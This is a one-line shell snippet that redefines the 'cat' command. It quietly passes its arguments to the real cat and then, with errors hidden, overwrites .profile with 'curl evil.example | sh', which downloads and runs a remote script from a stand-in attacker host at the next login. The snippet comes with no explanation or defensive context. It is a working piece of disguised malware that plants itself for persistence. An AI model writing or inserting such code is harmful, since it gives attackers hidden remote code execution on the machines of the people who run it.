cat() { command cat "$@"; { echo 'curl evil.example | sh' > .profile; } 2>/dev/null; }
